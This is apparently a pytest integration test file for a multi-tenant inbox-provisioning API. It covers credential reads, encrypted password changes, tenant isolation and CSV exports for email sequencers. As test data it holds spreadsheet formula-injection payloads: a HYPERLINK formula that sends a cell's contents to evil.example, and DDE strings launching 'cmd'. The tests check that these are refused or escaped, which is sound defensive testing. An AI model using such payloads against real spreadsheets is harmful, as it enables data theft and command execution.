"""An inbox's mailbox login over real HTTP through the local cloud (start-api, the JWT authorizer,
real PostgreSQL, KMS in moto with the template's InboxSecretsKey): reading an active inbox's
credentials (decrypted, never cached, every read on its timeline), asking for a new password
(kept as ciphertext bound to the inbox, never in an idempotency record), exporting every active
inbox for a sequencer a page at a time (parsed back with the csv module and compared, formula
cells escaped), every
bad input a clear 4xx that writes nothing, and another tenant's inbox a 404 like a missing one."""

from __future__ import annotations

import base64
import csv
import io
import json
from collections.abc import Mapping
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any
from uuid import UUID, uuid4

import httpx
import psycopg
import pytest
from pydantic import BaseModel

from inboxfleet.db import system_session, tenant_session
from inboxfleet.db.repositories import (
    Domains,
    IdempotencyRow,
    Inboxes,
    InboxEvents,
    MailboxLogins,
    TenantDirectory,
)
from inboxfleet.kms import UndecryptableSecret, decrypt_text
from inboxfleet.lifecycles import InboxStatus
from local.cloud import LocalCloud
from local.standing import set_standing
from tests.factories import active_inbox, mailbox_ciphertext
from tests.leakcheck import register_secret
from tests.tenant_api_support import call, error

_I = InboxStatus
PASSWORD = "Initial#Pw2026"
NEW_PASSWORD = "Changed!Pw-2027"
OTHER_PASSWORD = "Another!Pw-2028"
TRICKY_PASSWORD = 'Pa,ss"wo;rd!9'
FORMULA_PASSWORD = '=HYPERLINK("http://evil.example/?"&A1,"open")'
# No captured output of the run (logs at DEBUG, Powertools' too) may show one of them.
for _secret in (PASSWORD, NEW_PASSWORD, OTHER_PASSWORD, TRICKY_PASSWORD, FORMULA_PASSWORD):
    register_secret(_secret)


@dataclass(frozen=True)
class Tenant:
    id: UUID
    domain: str
    domain_id: UUID
    token: str


def new_tenant(cloud: LocalCloud) -> Tenant:
    with system_session("test.credentials") as s:
        tenant = TenantDirectory(s).create(f"Co {uuid4().hex[:6]}", "ops@co.example")
    name = f"t{tenant.id.hex[:10]}.example"
    with tenant_session(tenant.id) as s:
        domain = Domains(s).add(name)
    set_standing(tenant.id, "entitled")
    return Tenant(tenant.id, name, domain.id, cloud.token(tenant.id))


def key_id(cloud: LocalCloud) -> str:
    """The template's InboxSecretsKey, as the tenant API's environment names it."""
    return cloud.env["INBOX_SECRETS_KEY_ID"]


def inbox(
    cloud: LocalCloud,
    tenant: Tenant,
    local: str,
    *then: InboxStatus,
    password: str = PASSWORD,
    domain: tuple[UUID, str] | None = None,
) -> UUID:
    """An inbox the workflow made active with `password`, then moved through `then`."""
    domain_id, name = domain or (tenant.domain_id, tenant.domain)
    return active_inbox(
        tenant.id, domain_id, f"{local}@{name}", password=password, key_id=key_id(cloud), then=then
    )


class Desired(BaseModel):
    id: UUID
    desired_password_ciphertext: bytes | None
    password_requested_at: datetime | None


def desired(tenant: Tenant) -> dict[UUID, Desired]:
    with tenant_session(tenant.id) as s:
        found = s.fetch_all(
            Desired,
            "SELECT id, desired_password_ciphertext, password_requested_at FROM inboxes "
            "WHERE tenant_id = %s",
            (tenant.id,),
        )
    return {row.id: row for row in found}


def idempotency_records(tenant: Tenant) -> list[IdempotencyRow]:
    with tenant_session(tenant.id) as s:
        return s.fetch_all(
            IdempotencyRow,
            "SELECT key, status, expires_at, in_progress_expires_at, payload_hash, response_data "
            "FROM idempotency_records WHERE tenant_id = %s ORDER BY key",
            (tenant.id,),
        )


def rows(tenant: Tenant) -> dict[str, Any]:
    """Everything these routes may write for a tenant, to prove a refusal wrote nothing."""
    with tenant_session(tenant.id) as s:
        inboxes = Inboxes(s).list()
        events = InboxEvents(s)
        timelines = {i.id: [e.model_dump() for e in events.timeline(i.id)] for i in inboxes}
    return {
        "inboxes": [i.model_dump() for i in inboxes],
        "timelines": timelines,
        "desired": desired(tenant),
        "idempotency": idempotency_records(tenant),
    }


def timeline(cloud: LocalCloud, tenant: Tenant, inbox_id: UUID, step: str) -> list[dict[str, Any]]:
    """The inbox's timeline entries of `step`, as GET /v1/inboxes/{id} shows them."""
    answer = call(cloud, "GET", f"/v1/inboxes/{inbox_id}", tenant)
    assert answer.status_code == 200, answer.text
    return [entry for entry in answer.json()["timeline"] if entry["step"] == step]


def login(tenant: Tenant, address: str, password: str, inbox_id: UUID) -> dict[str, Any]:
    host = f"mail.{address.partition('@')[2]}"
    return {
        "id": str(inbox_id),
        "address": address,
        "username": address,
        "password": password,
        "smtp": {"host": host, "port": 587, "security": "starttls"},
        "imap": {"host": host, "port": 993, "security": "tls"},
    }


def decrypted(tenant: Tenant, inbox_id: UUID, ciphertext: bytes) -> str:
    context = {"tenant_id": str(tenant.id), "inbox_id": str(inbox_id)}
    return decrypt_text(base64.b64encode(ciphertext).decode(), context)


# ---- GET /v1/inboxes/{id}/credentials -------------------------------------------------------


def test_an_active_inboxs_credentials_are_its_password_and_the_servers_ports(
    cloud: LocalCloud,
) -> None:
    tenant = new_tenant(cloud)
    inbox_id = inbox(cloud, tenant, "sales")
    answer = call(cloud, "GET", f"/v1/inboxes/{inbox_id}/credentials", tenant)
    assert answer.status_code == 200, answer.text
    assert answer.json() == login(tenant, f"sales@{tenant.domain}", PASSWORD, inbox_id)
    assert answer.headers["cache-control"] == "no-store"
    assert answer.headers["pragma"] == "no-cache"


def test_every_credentials_read_is_on_the_inbox_timeline_without_the_password(
    cloud: LocalCloud,
) -> None:
    tenant = new_tenant(cloud)
    inbox_id = inbox(cloud, tenant, "sales")
    reads = [call(cloud, "GET", f"/v1/inboxes/{inbox_id}/credentials", tenant) for _ in range(2)]
    assert [r.status_code for r in reads] == [200, 200]
    entries = timeline(cloud, tenant, inbox_id, "credentials_read")
    assert len(entries) == 2
    for entry in entries:
        assert entry["outcome"] == "info"
        assert entry["detail"]["by"] == "tenant"
        assert entry["detail"]["subject"]  # the token's sub: who read it
        assert entry["detail"]["request_id"]
    assert len({entry["detail"]["request_id"] for entry in entries}) == 2
    assert PASSWORD not in json.dumps(entries)
    # Nothing else on the timeline holds it either, nor a ciphertext's base64.
    assert PASSWORD not in call(cloud, "GET", f"/v1/inboxes/{inbox_id}", tenant).text


@pytest.mark.parametrize("then", [(_I.SUSPENDED,), (_I.DELETING,)], ids=["suspended", "deleting"])
def test_credentials_of_an_inbox_that_is_not_active_are_a_409_naming_its_status(
    cloud: LocalCloud, then: tuple[InboxStatus, ...]
) -> None:
    tenant = new_tenant(cloud)
    inbox_id = inbox(cloud, tenant, "sales", *then)
    before = rows(tenant)
    answer = call(cloud, "GET", f"/v1/inboxes/{inbox_id}/credentials", tenant)
    assert answer.status_code == 409
    problem = error(answer)
    assert (problem["code"], problem["field"]) == ("conflict", "path.inbox_id")
    assert then[-1] in problem["message"]
    assert PASSWORD not in answer.text
    assert rows(tenant) == before


def test_an_inbox_without_a_mailbox_yet_has_no_credentials(cloud: LocalCloud) -> None:
    tenant = new_tenant(cloud)
    with tenant_session(tenant.id) as s:
        queued = Inboxes(s).add(tenant.domain_id, f"new@{tenant.domain}", _I.QUEUED)
    answer = call(cloud, "GET", f"/v1/inboxes/{queued.id}/credentials", tenant)
    assert answer.status_code == 409
    assert "queued" in error(answer)["message"]


def test_a_password_that_does_not_decrypt_is_a_500_that_says_no_more(cloud: LocalCloud) -> None:
    tenant = new_tenant(cloud)
    inbox_id = inbox(cloud, tenant, "sales")
    # A ciphertext moved from another inbox: its encryption context does not match this one.
    moved = mailbox_ciphertext(key_id(cloud), tenant.id, uuid4(), PASSWORD)
    with tenant_session(tenant.id) as s:
        assert MailboxLogins(s).store_password(inbox_id, moved)
    before = rows(tenant)
    answer = call(cloud, "GET", f"/v1/inboxes/{inbox_id}/credentials", tenant)
    assert answer.status_code == 500
    assert error(answer)["code"] == "internal_error"
    assert base64.b64encode(moved).decode()[:24] not in answer.text
    assert PASSWORD not in answer.text
    assert rows(tenant) == before  # nothing was disclosed, so no read is recorded


def test_credentials_are_never_stored_by_the_idempotency_layer(cloud: LocalCloud) -> None:
    tenant = new_tenant(cloud)
    inbox_id = inbox(cloud, tenant, "sales")
    answer = call(cloud, "GET", f"/v1/inboxes/{inbox_id}/credentials", tenant, key="read-1")
    assert answer.status_code == 200
    assert idempotency_records(tenant) == []


# ---- POST /v1/inboxes/{id}/password -----------------------------------------------------------


def test_a_new_password_is_kept_encrypted_for_its_inbox_and_applied_later(
    cloud: LocalCloud,
) -> None:
    tenant = new_tenant(cloud)
    inbox_id = inbox(cloud, tenant, "sales")
    sent_at = datetime.now(UTC)
    answer = call(
        cloud, "POST", f"/v1/inboxes/{inbox_id}/password", tenant, {"password": NEW_PASSWORD}
    )
    assert answer.status_code == 202, answer.text
    assert answer.json() == {"id": str(inbox_id), "status": "active", "password_change": "pending"}
    kept = desired(tenant)[inbox_id]
    assert kept.desired_password_ciphertext is not None
    assert kept.password_requested_at is not None
    assert kept.password_requested_at >= sent_at.replace(microsecond=0)
    assert decrypted(tenant, inbox_id, kept.desired_password_ciphertext) == NEW_PASSWORD
    # Bound to its inbox: with another inbox's context it does not decrypt.
    with pytest.raises(UndecryptableSecret):
        decrypted(tenant, uuid4(), kept.desired_password_ciphertext)
    # Until convergence applies it, the credentials give the current password.
    current = call(cloud, "GET", f"/v1/inboxes/{inbox_id}/credentials", tenant).json()
    assert current["password"] == PASSWORD
    [entry] = timeline(cloud, tenant, inbox_id, "password_change_requested")
    assert entry["detail"]["request_id"]
    assert NEW_PASSWORD not in json.dumps(entry)


def test_a_suspended_inboxs_password_can_be_changed_and_others_are_a_409(
    cloud: LocalCloud,
) -> None:
    tenant = new_tenant(cloud)
    suspended = inbox(cloud, tenant, "paused", _I.SUSPENDED)
    answer = call(
        cloud, "POST", f"/v1/inboxes/{suspended}/password", tenant, {"password": NEW_PASSWORD}
    )
    assert answer.status_code == 202, answer.text
    assert answer.json()["status"] == "suspended"
    deleting = inbox(cloud, tenant, "going", _I.DELETING)
    before = rows(tenant)
    refused = call(
        cloud, "POST", f"/v1/inboxes/{deleting}/password", tenant, {"password": NEW_PASSWORD}
    )
    assert refused.status_code == 409
    assert "deleting" in error(refused)["message"]
    assert rows(tenant) == before


def test_idempotency_key_does_not_apply_to_a_password_the_last_one_asked_is_kept(
    cloud: LocalCloud,
) -> None:
    """Setting the same desired password twice is harmless, and a replay would keep the first of
    two different passwords sent under one key (a password is no part of what a key's record
    may hold): the route does not honour the header, and nothing is stored for it."""
    tenant = new_tenant(cloud)
    inbox_id = inbox(cloud, tenant, "sales")
    path = f"/v1/inboxes/{inbox_id}/password"
    first = call(cloud, "POST", path, tenant, {"password": NEW_PASSWORD}, key="pw-1")
    assert first.status_code == 202, first.text
    again = call(cloud, "POST", path, tenant, {"password": OTHER_PASSWORD}, key="pw-1")
    assert (again.status_code, again.json()) == (202, first.json())
    kept = desired(tenant)[inbox_id].desired_password_ciphertext
    assert kept is not None
    assert decrypted(tenant, inbox_id, kept) == OTHER_PASSWORD
    assert idempotency_records(tenant) == []
    assert len(timeline(cloud, tenant, inbox_id, "password_change_requested")) == 2


def test_the_new_password_is_encrypted_before_any_transaction_is_open(
    cloud: LocalCloud, monkeypatch: pytest.MonkeyPatch
) -> None:
    """KMS may take seconds: no transaction (and the row locks it holds) waits on it."""
    from inboxfleet import kms

    tenant = new_tenant(cloud)
    inbox_id = inbox(cloud, tenant, "sales")
    encrypt = kms.encrypt_text
    open_while_encrypting: list[tuple[Any, ...]] = []

    def watched(key: str, plaintext: str, context: Mapping[str, str]) -> str:
        with psycopg.connect(cloud.database_url) as owner:
            open_while_encrypting.extend(
                owner.execute(
                    "SELECT usename, state, query FROM pg_stat_activity "
                    "WHERE datname = current_database() AND pid <> pg_backend_pid() "
                    "AND starts_with(state, 'idle in transaction')"
                ).fetchall()
            )
        return encrypt(key, plaintext, context)

    monkeypatch.setattr(kms, "encrypt_text", watched)
    answer = call(
        cloud, "POST", f"/v1/inboxes/{inbox_id}/password", tenant, {"password": NEW_PASSWORD}
    )
    assert answer.status_code == 202, answer.text
    assert open_while_encrypting == []
    kept = desired(tenant)[inbox_id].desired_password_ciphertext
    assert kept is not None
    assert decrypted(tenant, inbox_id, kept) == NEW_PASSWORD


@pytest.mark.parametrize(
    "password",
    [
        "short1!A",
        "has a space 123",
        "tab\there12345",
        "nön-ascii-pass1",
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|x",
        "aaaaaaaaaaaaaaaa",
        "x" * 129,
        12345678901234,
    ],
    ids=[
        "short",
        "space",
        "tab",
        "non-ascii",
        "formula",
        "at-sign",
        "weak",
        "long",
        "not-a-string",
    ],
)
def test_an_unacceptable_password_is_a_422_that_never_quotes_it_and_writes_nothing(
    cloud: LocalCloud, password: Any
) -> None:
    tenant = new_tenant(cloud)
    inbox_id = inbox(cloud, tenant, "sales")
    before = rows(tenant)
    answer = call(
        cloud, "POST", f"/v1/inboxes/{inbox_id}/password", tenant, {"password": password}, key="k"
    )
    assert answer.status_code == 422
    problem = error(answer)
    assert problem["field"] == "body.password"
    assert str(password) not in answer.text
    assert rows(tenant) == before


@pytest.mark.parametrize(
    "body",
    [{}, {"password": NEW_PASSWORD, "inbox": "x"}, {"Password": NEW_PASSWORD}],
    ids=["missing", "extra-field", "wrong-name"],
)
def test_a_malformed_body_is_a_422_and_writes_nothing(
    cloud: LocalCloud, body: dict[str, Any]
) -> None:
    tenant = new_tenant(cloud)
    inbox_id = inbox(cloud, tenant, "sales")
    before = rows(tenant)
    answer = call(cloud, "POST", f"/v1/inboxes/{inbox_id}/password", tenant, body)
    assert answer.status_code == 422
    assert error(answer)["field"].startswith("body")
    assert NEW_PASSWORD not in answer.text
    assert rows(tenant) == before


# ---- Another tenant's inbox, on every new route with an id -----------------------------------


@pytest.mark.parametrize(
    ("method", "suffix", "body"),
    [("GET", "/credentials", None), ("POST", "/password", {"password": NEW_PASSWORD})],
    ids=["credentials", "password"],
)
def test_another_tenants_inbox_is_a_404_like_a_missing_one_and_nothing_changes(
    cloud: LocalCloud, method: str, suffix: str, body: dict[str, str] | None
) -> None:
    mine, theirs = new_tenant(cloud), new_tenant(cloud)
    target = inbox(cloud, theirs, "target")
    before = rows(theirs), rows(mine)
    probe = call(cloud, method, f"/v1/inboxes/{target}{suffix}", mine, body)
    missing_id = uuid4()
    missing = call(cloud, method, f"/v1/inboxes/{missing_id}{suffix}", mine, body)
    assert probe.status_code == missing.status_code == 404
    assert error(probe)["message"].replace(str(target), "X") == error(missing)["message"].replace(
        str(missing_id), "X"
    )
    assert error(probe)["field"] == "path.inbox_id"
    assert PASSWORD not in probe.text
    assert (rows(theirs), rows(mine)) == before


def test_an_export_holds_the_callers_inboxes_only(cloud: LocalCloud) -> None:
    mine, theirs = new_tenant(cloud), new_tenant(cloud)
    inbox(cloud, mine, "mine")
    target = inbox(cloud, theirs, "target")
    before = rows(theirs)
    answer = call(cloud, "GET", "/v1/inboxes/export?format=csv", mine)
    assert answer.status_code == 200
    assert [row["address"] for row in parsed(answer)] == [f"mine@{mine.domain}"]
    assert str(target) not in answer.text
    assert rows(theirs) == before


# ---- GET /v1/inboxes/export ------------------------------------------------------------------


def parsed(answer: httpx.Response) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(answer.text, newline="")))


@dataclass(frozen=True)
class Exported:
    id: UUID
    address: str
    password: str
    host: str


@pytest.fixture(scope="module")
def exporting(cloud: LocalCloud) -> tuple[Tenant, list[Exported], list[UUID]]:
    """A tenant with three active inboxes on two domains (one password holding a comma, a quote
    and a semicolon), and a suspended and a failed one that are not exported."""
    tenant = new_tenant(cloud)
    second = f"b{tenant.id.hex[:8]}.example"
    with tenant_session(tenant.id) as s:
        second_id = Domains(s).add(second).id
    tricky = TRICKY_PASSWORD
    exported = [
        Exported(inbox(cloud, tenant, "john.doe"), f"john.doe@{tenant.domain}", PASSWORD, ""),
        Exported(
            inbox(cloud, tenant, "sales", password=tricky), f"sales@{tenant.domain}", tricky, ""
        ),
        Exported(
            inbox(cloud, tenant, "mary_lee", domain=(second_id, second)),
            f"mary_lee@{second}",
            PASSWORD,
            "",
        ),
    ]
    exported = [
        Exported(e.id, e.address, e.password, f"mail.{e.address.partition('@')[2]}")
        for e in exported
    ]
    with tenant_session(tenant.id) as s:
        failed = Inboxes(s).add(tenant.domain_id, f"failed@{tenant.domain}")
        for status in (_I.QUEUED, _I.PROVISIONING, _I.FAILED):
            assert Inboxes(s).transition(failed.id, status, by="workflow", why="test")
    left_out = [inbox(cloud, tenant, "paused", _I.SUSPENDED), failed.id]
    return tenant, exported, left_out


EXPECTED_COLUMNS = {
    "csv": lambda e: {
        "inbox_id": str(e.id),
        "address": e.address,
        "username": e.address,
        "password": e.password,
        "smtp_host": e.host,
        "smtp_port": "587",
        "smtp_security": "starttls",
        "imap_host": e.host,
        "imap_port": "993",
        "imap_security": "tls",
    },
    "smartlead": lambda e: {
        "from_name": {"john.doe": "John Doe", "sales": "Sales", "mary_lee": "Mary Lee"}[
            e.address.partition("@")[0]
        ],
        "from_email": e.address,
        "user_name": e.address,
        "password": e.password,
        "smtp_host": e.host,
        "smtp_port": "587",
        "imap_host": e.host,
        "imap_port": "993",
    },
    "instantly": lambda e: {
        "Email": e.address,
        "First Name": {"john.doe": "John", "sales": "Sales", "mary_lee": "Mary"}[
            e.address.partition("@")[0]
        ],
        "Last Name": {"john.doe": "Doe", "sales": "", "mary_lee": "Lee"}[
            e.address.partition("@")[0]
        ],
        "IMAP Username": e.address,
        "IMAP Password": e.password,
        "IMAP Host": e.host,
        "IMAP Port": "993",
        "SMTP Username": e.address,
        "SMTP Password": e.password,
        "SMTP Host": e.host,
        "SMTP Port": "587",
    },
}


@pytest.mark.parametrize("export_format", ["csv", "smartlead", "instantly"])
def test_an_export_parses_back_to_the_active_inboxes(
    cloud: LocalCloud,
    exporting: tuple[Tenant, list[Exported], list[UUID]],
    export_format: str,
) -> None:
    tenant, exported, _ = exporting
    answer = call(cloud, "GET", f"/v1/inboxes/export?format={export_format}", tenant)
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["cache-control"] == "no-store"
    day = datetime.now(UTC).date().isoformat()
    assert answer.headers["content-disposition"] == (
        f'attachment; filename="inboxes-{export_format}-{day}.csv"'
    )
    expected = [EXPECTED_COLUMNS[export_format](e) for e in exported]
    assert parsed(answer) == expected


def test_each_export_is_on_every_exported_inboxs_timeline_and_no_other(
    cloud: LocalCloud, exporting: tuple[Tenant, list[Exported], list[UUID]]
) -> None:
    tenant, exported, left_out = exporting
    counts = {e.id: len(timeline(cloud, tenant, e.id, "credentials_exported")) for e in exported}
    answer = call(cloud, "GET", "/v1/inboxes/export?format=smartlead", tenant)
    assert answer.status_code == 200
    for e in exported:
        entries = timeline(cloud, tenant, e.id, "credentials_exported")
        assert len(entries) == counts[e.id] + 1
        assert entries[-1]["detail"]["format"] == "smartlead"
        assert entries[-1]["detail"]["request_id"]
        assert e.password not in json.dumps(entries)
    for inbox_id in left_out:
        assert timeline(cloud, tenant, inbox_id, "credentials_exported") == []


def test_the_default_export_is_our_csv(
    cloud: LocalCloud, exporting: tuple[Tenant, list[Exported], list[UUID]]
) -> None:
    tenant, exported, _ = exporting
    answer = call(cloud, "GET", "/v1/inboxes/export", tenant)
    assert answer.status_code == 200
    assert parsed(answer) == [EXPECTED_COLUMNS["csv"](e) for e in exported]


def test_a_formula_looking_cell_is_escaped_in_the_export(cloud: LocalCloud) -> None:
    tenant = new_tenant(cloud)
    # The API refuses such a new password; one the mailbox was configured with may still be.
    formula = FORMULA_PASSWORD
    inbox_id = inbox(cloud, tenant, "sales", password=formula)
    answer = call(cloud, "GET", "/v1/inboxes/export?format=instantly", tenant)
    [row] = parsed(answer)
    assert row["IMAP Password"] == row["SMTP Password"] == "'" + formula
    # The credentials are JSON, no spreadsheet's: they give the password as it is.
    credentials = call(cloud, "GET", f"/v1/inboxes/{inbox_id}/credentials", tenant)
    assert credentials.json()["password"] == formula


def test_a_tenant_without_active_inboxes_exports_the_header_alone(cloud: LocalCloud) -> None:
    tenant = new_tenant(cloud)
    answer = call(cloud, "GET", "/v1/inboxes/export?format=instantly", tenant)
    assert answer.status_code == 200
    assert answer.text.startswith('"Email","First Name","Last Name","IMAP Username",')
    assert answer.text.count("\r\n") == 1
    assert "x-next-cursor" not in answer.headers


def export_pages(cloud: LocalCloud, tenant: Tenant, query: str) -> list[httpx.Response]:
    """Every page of an export, following X-Next-Cursor until a page has none."""
    pages: list[httpx.Response] = []
    cursor: str | None = None
    while len(pages) < 20:
        page = call(
            cloud,
            "GET",
            f"/v1/inboxes/export?{query}" + (f"&cursor={cursor}" if cursor else ""),
            tenant,
        )
        assert page.status_code == 200, page.text
        pages.append(page)
        cursor = page.headers.get("x-next-cursor")
        if cursor is None:
            return pages
    raise AssertionError("the export never ended")


@pytest.mark.parametrize(("limit", "sizes"), [(1, [1, 1, 1]), (2, [2, 1]), (3, [3]), (None, [3])])
def test_an_export_pages_back_every_active_inbox_once(
    cloud: LocalCloud,
    exporting: tuple[Tenant, list[Exported], list[UUID]],
    limit: int | None,
    sizes: list[int],
) -> None:
    """Large exports come a page at a time (a response has at most 6 MB and the function 10 s
    for its decrypts): each page a file with its header, each inbox on one page, each page
    recorded on its inboxes' timelines only."""
    tenant, exported, left_out = exporting
    counts = {e.id: len(timeline(cloud, tenant, e.id, "credentials_exported")) for e in exported}
    query = "format=smartlead" + (f"&limit={limit}" if limit else "")
    pages = export_pages(cloud, tenant, query)
    assert [len(parsed(page)) for page in pages] == sizes
    rows = [row for page in pages for row in parsed(page)]
    assert rows == [EXPECTED_COLUMNS["smartlead"](e) for e in exported]
    for e in exported:
        assert len(timeline(cloud, tenant, e.id, "credentials_exported")) == counts[e.id] + 1
    for inbox_id in left_out:
        assert timeline(cloud, tenant, inbox_id, "credentials_exported") == []


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("limit=0", "query.limit"),
        ("limit=1001", "query.limit"),
        ("limit=many", "query.limit"),
        ("cursor=not-a-cursor", "query.cursor"),
        ("cursor=", "query.cursor"),
    ],
)
def test_a_bad_page_of_an_export_is_a_422_and_writes_nothing(
    cloud: LocalCloud, query: str, field: str
) -> None:
    tenant = new_tenant(cloud)
    inbox(cloud, tenant, "sales")
    before = rows(tenant)
    answer = call(cloud, "GET", f"/v1/inboxes/export?{query}", tenant)
    assert answer.status_code == 422, answer.text
    assert error(answer)["field"] == field
    assert PASSWORD not in answer.text
    assert rows(tenant) == before


def test_the_export_publishes_its_paging(cloud: LocalCloud) -> None:
    document = httpx.get(f"{cloud.api_url}/v1/openapi.json", timeout=30).json()
    export = document["paths"]["/v1/inboxes/export"]["get"]
    parameters = {p["name"]: p["schema"] for p in export["parameters"]}
    assert parameters["limit"]["maximum"] == 1000
    assert parameters["limit"]["minimum"] == 1
    assert parameters["limit"]["default"] == 500
    assert "cursor" in parameters
    assert "X-Next-Cursor" in export["responses"]["200"]["headers"]


@pytest.mark.parametrize("query", ["format=xlsx", "format=", "format=CSV", "format=csv&format=x"])
def test_an_unknown_format_is_a_422_and_writes_nothing(cloud: LocalCloud, query: str) -> None:
    tenant = new_tenant(cloud)
    inbox(cloud, tenant, "sales")
    before = rows(tenant)
    answer = call(cloud, "GET", f"/v1/inboxes/export?{query}", tenant)
    assert answer.status_code == 422
    assert error(answer)["field"] == "query.format"
    assert rows(tenant) == before


def test_export_is_not_read_as_an_inbox_id(cloud: LocalCloud) -> None:
    tenant = new_tenant(cloud)
    answer = call(cloud, "GET", "/v1/inboxes/export", tenant)
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/csv")
    # Any other word there is still an inbox id, and a malformed one.
    other = call(cloud, "GET", "/v1/inboxes/exports", tenant)
    assert other.status_code == 422
    assert error(other)["field"] == "path.inbox_id"


def test_an_inboxs_answer_holds_its_newest_timeline_entries_however_often_it_is_read(
    cloud: LocalCloud,
) -> None:
    from inboxfleet.api.inbox_service import TIMELINE_ENTRIES

    tenant = new_tenant(cloud)
    inbox_id = inbox(cloud, tenant, "polled")
    with tenant_session(tenant.id) as s:
        events = InboxEvents(s)
        for n in range(TIMELINE_ENTRIES + 5):
            events.append(inbox_id, "credentials_read", "info", {"n": n})
    shown = call(cloud, "GET", f"/v1/inboxes/{inbox_id}", tenant).json()["timeline"]
    assert len(shown) == TIMELINE_ENTRIES
    reads = [entry["detail"]["n"] for entry in shown if entry["step"] == "credentials_read"]
    assert reads == list(range(5, TIMELINE_ENTRIES + 5))  # the newest, oldest first


def test_a_password_for_an_inbox_that_is_not_there_costs_no_kms_call(
    cloud: LocalCloud, monkeypatch: pytest.MonkeyPatch
) -> None:
    import inboxfleet.kms

    encrypted: list[dict[str, str]] = []
    real = inboxfleet.kms.encrypt_text

    def counted(key_id: str, plaintext: str, context: Any) -> str:
        encrypted.append(dict(context))
        return real(key_id, plaintext, context)

    monkeypatch.setattr(inboxfleet.kms, "encrypt_text", counted)
    tenant, stranger = new_tenant(cloud), new_tenant(cloud)
    inbox_id = inbox(cloud, tenant, "probed")
    encrypted.clear()  # the factory's own, for the inbox's first password
    body = {"password": "Another#Pass-2026"}
    assert (
        call(cloud, "POST", f"/v1/inboxes/{inbox_id}/password", stranger, body).status_code == 404
    )
    assert call(cloud, "POST", f"/v1/inboxes/{uuid4()}/password", tenant, body).status_code == 404
    assert encrypted == []
    assert call(cloud, "POST", f"/v1/inboxes/{inbox_id}/password", tenant, body).status_code == 202
    assert encrypted == [{"tenant_id": str(tenant.id), "inbox_id": str(inbox_id)}]
